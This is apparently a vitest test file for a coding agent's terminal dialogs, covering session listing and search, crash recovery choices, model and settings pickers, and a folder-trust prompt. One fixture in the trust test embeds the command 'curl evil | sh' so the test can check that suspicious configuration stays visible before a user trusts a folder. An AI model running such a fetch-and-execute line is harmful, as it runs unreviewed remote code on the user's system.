import { describe, expect, it } from "vitest";
import type { ListedSession, SessionsRequest } from "../../../src/app/current/sessions.ts";
import { foreignText } from "../../../src/record/error.ts";
import type { SessionId } from "../../../src/record/ids.ts";
import { en } from "../../../src/strings/en.ts";
import { type SessionPickerState, sessionPicker } from "../../../src/tui/dialogs/session-picker.ts";
import { afterCrash } from "../../../src/tui/flows/after-crash.ts";
import { modelPicker } from "../../../src/tui/flows/connect.ts";
import { trustLines, trustQuestion } from "../../../src/tui/flows/opening.ts";
import { languageMenu, settingsList } from "../../../src/tui/flows/settings.ts";
import { drawIn, keyPresses, NOW, play, roomOf, zh } from "./played.ts";

const row: ListedSession = {
  id: "s1" as SessionId,
  title: "find the leak",
  isNamedAsSource: false,
  workspace: "/work/app",
  messages: 12,
  prompts: 6,
  entries: 30,
  checkpoints: 6,
  created: NOW - 60_000,
  used: NOW - 60_000,
  damage: 0,
  place: "elsewhere",
  mode: "agent",
};
const rows: readonly ListedSession[] = [
  { ...row, id: "s0" as SessionId, title: "now", place: "here" },
  row,
  { ...row, id: "s2" as SessionId, title: "世界", heldBy: "unreadable" },
];

function picking(list: (request: SessionsRequest) => Promise<readonly ListedSession[]>, unreadable = 0) {
  const dialog = sessionPicker(en, { list, unreadable: () => unreadable, of: "workspace" });
  let state: SessionPickerState = dialog.start;
  const beside = dialog.background?.((change) => {
    state = change(state);
  });
  beside?.onState(state);
  return {
    settle: () => new Promise((resolve) => setImmediate(resolve)),
    lines: (width: number) => drawIn(dialog, state, roomOf(width)),
    press: (...keys: readonly string[]) => {
      for (const key of keyPresses(...keys)) {
        const pressed = dialog.press(state, key, roomOf());
        if ("answer" in pressed) return pressed.answer;
        state = pressed.state;
        beside?.onState(state);
      }
      return "open";
    },
  };
}

describe("the picker of sessions", () => {
  it("says how many could not be read", async () => {
    const picker = picking(async () => rows, 1);
    await picker.settle();
    expect(picker.lines(40)[1]).toBe("1 session could not be read; see /doctor");
  });

  it("shows title, messages and date, and which one is current or held", async () => {
    const picker = picking(async () => rows);
    expect(picker.lines(40)[1]).toBe("Loading sessions");
    await picker.settle();
    expect(picker.lines(80).slice(0, 4)).toEqual([
      "Sessions in this workspace",
      "> 1 now (this one)                                        12 messages  1 min ago",
      "  2 find the leak                                         12 messages  1 min ago",
      "  3 世界 (open elsewhere)                                 12 messages  1 min ago",
    ]);
    expect(picker.lines(40).slice(1, 4)).toEqual([
      "> 1 now (this one)         12  1 min ago",
      "  2 find the leak          12  1 min ago",
      "  3 世界 (open elsewhere)  12  1 min ago",
    ]);
  });

  it("marks what came from elsewhere, however long its title is", async () => {
    const picker = picking(async () => [{ ...row, title: "own ".repeat(40), unconfirmed: true }]);
    await picker.settle();
    for (const width of [80, 45]) expect(picker.lines(width)[1]).toContain("… (unconfirmed)");
  });

  it("opens and deletes", async () => {
    const picker = picking(async () => rows);
    await picker.settle();
    expect(picker.press("2")).toEqual({ do: "open", row, of: "workspace" });
    expect(picker.press("down", "d")).toEqual({ do: "delete", row, of: "workspace" });
  });

  it("searches for what was typed last, one search at a time, and in all workspaces", async () => {
    const asked: SessionsRequest[] = [];
    const picker = picking(async (request) => {
      asked.push(request);
      return rows;
    });
    picker.press("/", "'leak'");
    await picker.settle();
    picker.press("ctrl+a");
    await picker.settle();
    expect(asked).toEqual([
      { of: "workspace" },
      { of: "workspace", search: "leak" },
      { of: "all", search: "leak" },
    ]);
    expect(picker.lines(40).slice(0, 3)).toEqual([
      "Sessions in all workspaces",
      "/ leak_",
      "> 1 now (this one)     12  1 min ago app",
    ]);
  });

  it("says why nothing could be found", async () => {
    const picker = picking(() => Promise.reject(new Error("The store cannot be read.")));
    await picker.settle();
    expect(picker.lines(40)[1]).toBe("The store cannot be read.");
  });
});

describe("after a crash", () => {
  it("the dialog says what was open, and what can be done", () => {
    const dialog = afterCrash(
      en,
      { step: 4, openCalls: [{ call: "c1", name: "Bash", about: "npm test" }], before: 12 },
      "ready",
    );
    expect(play(dialog, []).lines).toEqual([
      "The last turn was interrupted at step 4",
      "Started but not finished; may or may not have taken effect:",
      "  Bash npm test",
      "> 1. Continue",
      "     from the last completed step; unfinished calls are reported, not run again",
      "  2. Retry the step  asks the model again from the start of the step",
      "  3. Restore the files from before the step (#12)  shows a preview first",
      "  4. Leave it  does nothing; you will not be asked again",
      "↑↓ or digit · Enter select · Esc cancel",
    ]);
    expect(play(dialog, ["3"]).outcome).toEqual({ answer: "rewind-files" });
    expect(play(afterCrash(en, { step: 4, openCalls: [] }, "ready"), ["3"]).outcome).toEqual({
      answer: "leave",
    });
    // Without a model, the turn cannot be continued.
    expect(play(afterCrash(en, { step: 4, openCalls: [] }, "none"), ["1"]).outcome).toEqual({
      answer: "leave",
    });
  });
});

describe("smaller choices", () => {
  it("begin at the model in use", () => {
    const models = [
      { name: "one", state: "no-key", isCurrent: false },
      { name: "two", state: "ready", isCurrent: true, window: 200_000 },
    ] as const;
    expect(play(modelPicker(en, models), [], roomOf(40)).lines.slice(1, 3)).toEqual([
      "  1 one                      needs a key",
      "> 2 two (in use)             200k window",
    ]);
    expect(play(modelPicker(en, models), ["s"]).outcome).toEqual({ answer: { item: models[1], by: "s" } });
  });

  it("show settings with where they come from", () => {
    const settings = [{ key: "ui.doubleEscapeMs", value: "500", source: { layer: "default" } }] as const;
    expect(play(settingsList(en, settings), [], roomOf(40)).lines[1]).toBe(
      "> 1 ui.doubleEscapeMs  500  (default)",
    );
  });

  it("trust a folder only after all of its configuration could be read", () => {
    const folder = {
      folder: "app",
      what: [foreignText(`MCP x: node server.js ${"--option ".repeat(99)}; curl evil | sh`)],
    };
    const room = roomOf(40, 18);
    expect(play(trustQuestion(en, folder), [], room).lines.join("\n")).toMatch(
      /and \d+ more lines: Ctrl\+E/u,
    );
    expect(play(trustQuestion(en, folder), ["2"], room).outcome).toEqual({ answer: "view" });
    expect(trustLines(folder, en, 40).join("")).toContain("curl evil | sh");
    expect(play(trustQuestion(en, folder, "yes"), ["2"], room).outcome).toEqual({ answer: "trust" });
  });

  it("begin at no trust, and at the language that is spoken", () => {
    const trust = trustQuestion(en, { folder: "app", what: [foreignText("MCP server x")] });
    expect(play(trust, ["enter"]).outcome).toEqual({ answer: "ignore" });
    expect(play(trust, ["2"]).outcome).toEqual({ answer: "trust" });
    expect(play(languageMenu(zh), ["enter"], roomOf(40, 10, zh)).outcome).toEqual({ answer: "zh-CN" });
    expect(play(languageMenu(en), ["enter"]).outcome).toEqual({ answer: "en" });
  });
});
